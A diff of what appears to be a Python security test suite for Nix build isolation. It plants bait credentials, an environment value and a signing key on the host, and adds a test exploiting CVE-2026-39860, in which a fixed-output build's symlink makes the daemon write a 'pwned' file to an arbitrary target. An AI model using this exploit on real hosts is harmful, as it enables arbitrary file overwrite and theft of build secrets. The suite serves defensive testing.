@@ -233,14 +233,20 @@ PY
 }
 """
 
-# The host's own and its manager's environment, and what the host's Nix knows of passwords and lends to its own builds. Both
-# daemons start anew.
+# The host's own and its manager's environment, and what the host's Nix knows of passwords, lends to its own builds and
+# signs them with. Both daemons start anew.
 LENT: Final = r"""
 systemctl set-environment "NIXPROV_ATTACK=environment-$stamp"
 address=$(cat /proc/net/fib_trie | sed -n 's/.*|-- \(10\..*\.1[0-9]\)$/\1/p' | head -n 1)
 printf 'machine %s login attacker password secret-%s\n' "$address" "$stamp" > /etc/nix/netrc
-grep -v impure-env /etc/nix/nix.conf > /etc/nix/nix.conf.new
-printf 'extra-experimental-features = configurable-impure-env\nimpure-env = NIXPROV_LENT=lent-%s\n' "$stamp" >> /etc/nix/nix.conf.new
+[ -e /etc/nix/owner-key ] ||
+  (umask 077; nix --extra-experimental-features nix-command key generate-secret --key-name owner > /etc/nix/owner-key)
+grep -vE 'impure-env|owner-key' /etc/nix/nix.conf > /etc/nix/nix.conf.new
+cat >> /etc/nix/nix.conf.new <<CONF
+extra-experimental-features = configurable-impure-env recursive-nix
+impure-env = NIXPROV_LENT=lent-$stamp
+secret-key-files = /etc/nix/owner-key
+CONF
 mv -f /etc/nix/nix.conf.new /etc/nix/nix.conf
 systemctl restart nix-daemon.service
 systemctl stop nixprov-nix-daemon.service
@@ -299,6 +305,17 @@ if len(held) > 64 + 16:
     print("flooded")
 PY
 """
+# A fixed-output build whose output the daemon copies to where a link of the builder's points (CVE-2026-39860).
+THROUGH_A_LINK: Final = r"""
+target="@TARGET@"
+derivation through "c=$(in_store $coreutils)/bin; echo pwned-$stamp > \$out; \$c/ln -s $target \$out.tmp; \$c/ls -l \$out.tmp; exit 0" "$fixed"
+nix-build --no-out-link through.nix
+"""
+
+
+def through_a_link(target: str) -> str:
+    return TOOLS + THROUGH_A_LINK.replace("@TARGET@", target)
+
 
 # More builders than there are processors: each says when it starts and ends, the job counts the most at a time.
 MANY_BUILDERS: Final = r"""
